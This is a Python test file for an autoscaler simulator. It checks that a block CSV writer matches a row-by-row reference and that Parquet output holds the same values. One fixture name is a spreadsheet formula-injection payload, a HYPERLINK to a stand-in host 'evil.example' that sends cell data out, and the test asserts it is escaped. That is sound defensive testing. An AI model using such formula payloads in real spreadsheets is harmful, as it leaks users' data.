"""timeline.csv from the block writer is byte for byte what the row-by-row writer wrote; timeline.parquet holds
the same values; both are written a block of targets at a time and agree however the run is cut into blocks."""

from __future__ import annotations

import csv
from collections.abc import Sequence
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from scaler import defaults
from scaler.decision.reasons import describe_all
from scaler.policy.load import load_policy
from scaler.recordings.load import load_recording
from scaler.simulate import csvbytes
from scaler.simulate.baseline import hpa_baseline
from scaler.simulate.output import spreadsheet_text, write_timeline
from scaler.simulate.replay import Result, simulate
from scaler.simulate.world import World, busy_scale
from tests.conftest import ROOT

T = 1_700_000_000
# names a spreadsheet would run (written with a leading quote), names csv must quote, and plain ones
NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "-2+3", "@SUM(A1:A9)", "web", "api,eu", 'say "hi"',
         "caf\u00e9", "'quoted"]


def reference_csv(results: Sequence[Result], path: Path) -> Path:
    """The timeline writer as it was (row by row: %-formatting and csv.writer), kept here as the reference."""
    names: list[str] = []
    for r in results:
        names += [m.name for m in r.policy.metrics if m.name not in names]
    header = ["policy", "target", "time", "replicas", "ready_replicas", "desired"]
    for n in names:
        header += [n, f"{n}_smoothed"]
    header += ["demand", "slo_ok", "reason"]
    with path.open("w", newline="") as f:
        w = csv.writer(f)
        w.writerow(header)
        for r in results:
            tl = r.timeline
            if tl is None:
                continue
            idx = {m.name: i for i, m in enumerate(r.policy.metrics)}
            reasons = np.array(describe_all(tl.reasons), dtype=object).reshape(tl.reasons.shape)
            for j, target in enumerate(r.targets):
                cols = [np.full(len(r.times), spreadsheet_text(r.policy.name), dtype=object),
                        np.full(len(r.times), spreadsheet_text(target), dtype=object),
                        _fmt(r.times, 0), _fmt(tl.replicas[:, j], 0), _fmt(tl.ready[:, j], 0),
                        _fmt(tl.desired[:, j], 0)]
                for n in names:
                    if n in idx:
                        cols += [_fmt(tl.observed[:, idx[n], j], 6), _fmt(tl.smoothed[:, idx[n], j], 6)]
                    else:
                        cols += [np.full(len(r.times), "", dtype=object)] * 2
                slo = np.where(tl.slo_ok[:, j] < 0, "", np.where(tl.slo_ok[:, j] > 0, "1", "0"))
                cols += [_fmt(tl.demand[:, j], 4), slo, reasons[:, j]]
                w.writerows(zip(*cols, strict=True))
    return path


def _fmt(values: np.ndarray, digits: int) -> np.ndarray:
    text = np.char.mod(f"%.{digits}f", np.nan_to_num(values)) if digits else np.char.mod("%d", np.nan_to_num(values))
    if digits:
        text = np.char.rstrip(np.char.rstrip(text, "0"), ".")
    return np.where(np.isnan(values), "", text)


@pytest.fixture(scope="module")
def bundled() -> list[Result]:
    """The quick start: the bundled policy and its HPA baseline on the bundled trace (14 days at 15 s)."""
    rec = load_recording(defaults.DEFAULT_TRACE, metric=defaults.DEFAULT_METRIC)
    world = World().model_copy(update=busy_scale(rec.metrics[defaults.DEFAULT_METRIC]))
    policy = load_policy(defaults.DEFAULT_POLICY)
    return [simulate(p, rec, world) for p in (policy, hpa_baseline(policy))]


@pytest.fixture(scope="module")
def fleet(tmp_path_factory: pytest.TempPathFactory) -> list[Result]:
    """Eight targets with names to escape and quote, a gap, replicas, and two policies of different metrics."""
    rng = np.random.default_rng(3)
    rows = ["timestamp,target,cpu,replicas"]
    for k in range(600):
        for j, name in enumerate(NAMES):
            if j == 3 and 200 <= k < 230:
                continue  # a gap: no data, never zero
            cell = '"' + name.replace('"', '""') + '"'
            rows.append(f"{T + 60 * k},{cell},{rng.uniform(5, 99):.3f},{1 + (k // 50 + j) % 5}")
    path = tmp_path_factory.mktemp("fleet") / "fleet.csv"
    path.write_text("\n".join(rows) + "\n")
    rec = load_recording(path)
    web = load_policy(ROOT / "policies" / "web.yaml")
    return [simulate(web, rec), simulate(hpa_baseline(web), rec)]


@pytest.mark.parametrize("runs", ["bundled", "fleet"])
def test_the_block_writer_writes_the_same_bytes_as_the_row_writer(runs: str, request, tmp_path: Path) -> None:
    results = request.getfixturevalue(runs)
    new = write_timeline(results, tmp_path / "timeline.csv").read_bytes()
    old = reference_csv(results, tmp_path / "reference.csv").read_bytes()
    assert new == old
    assert b"\"'=HYPERLINK(\"\"http" in new if runs == "fleet" else True


def test_parquet_holds_the_values_of_the_csv(fleet: list[Result], tmp_path: Path) -> None:
    with write_timeline(fleet, tmp_path / "timeline.csv").open(newline="") as f:
        rows = list(csv.reader(f))
    header, body = rows[0], rows[1:]
    table = pq.read_table(write_timeline(fleet, tmp_path / "timeline.parquet"))
    assert table.column_names == header
    assert table.num_rows == len(body)
    got = table.to_pydict()
    col = {name: [row[i] for row in body] for i, name in enumerate(header)}
    # names as they are (the CSV's leading quote is for spreadsheets only)
    assert [spreadsheet_text(p) for p in got["policy"]] == col["policy"]
    assert [spreadsheet_text(t) for t in got["target"]] == col["target"]
    assert table.schema.field("time").type == pa.timestamp("ms", tz="UTC")  # a time, read as one
    assert [f"{t.timestamp():.0f}" for t in got["time"]] == col["time"]
    for name in ("replicas", "ready_replicas", "desired"):
        assert [str(v) for v in got[name]] == col[name]
    for name, places in (("cpu", 6), ("cpu_smoothed", 6), ("demand", 4)):
        shown = ["" if v is None else (f"%.{places}f" % v).rstrip("0").rstrip(".") for v in got[name]]
        assert shown == col[name], name
    assert ["" if v is None else str(int(v)) for v in got["slo_ok"]] == col["slo_ok"]
    assert got["reason"] == col["reason"]
    assert any(v is None for v in got["demand"]) and any(v is None for v in got["slo_ok"])  # the gap


def test_numbers_format_as_python_formats_them() -> None:
    rng = np.random.default_rng(0)
    ties = np.array([0.0078125, 2.5, 0.5, 1.5, 1 / 128 * 3, 2.675, 1.0000005, 0.0000005])
    values = np.concatenate([rng.uniform(-1e3, 1e3, 20_000), rng.uniform(0, 1e-5, 2000), ties,
                             [0.0, -0.0, -1e-9, 1e20, 1.7976931348623157e308, np.nan, 4.5e9, 1e12 + 0.5]])
    for places in (6, 4):
        got = csvbytes.rows([csvbytes.Fixed(values, places)]).decode().split("\r\n")[:-1]
        expected = ["" if np.isnan(v) else (f"%.{places}f" % v).rstrip("0").rstrip(".") for v in values]
        assert got == expected
    got = csvbytes.rows([csvbytes.Whole(values)]).decode().split("\r\n")[:-1]
    assert got == ["" if np.isnan(v) else "%d" % v for v in values]  # noqa: UP031
